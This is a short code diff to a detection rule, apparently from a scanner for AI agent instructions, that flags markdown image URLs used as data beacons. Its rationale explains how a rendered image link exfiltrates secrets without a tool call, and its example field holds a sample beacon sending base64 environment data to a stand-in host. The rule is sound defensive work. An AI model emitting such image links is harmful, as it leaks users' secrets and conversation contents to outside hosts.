@@ -20,6 +20,7 @@ export const exMarkdownImageBeaconRule = defineRegexRule({
     severity: 'high',
     confidence: 'high',
     asset_type: 'instructions',
+    shows_intent: true,
     rationale:
       'When an agent renders `![x](https://host/p?d=<data>)`, the chat client fetches the URL and the data in it leaves without any tool call. Image URLs with a slot for secrets, conversation or file contents are an exfiltration channel.',
     example: '![status](https://stats.example/p.png?d=<BASE64_OF_ENV>)',
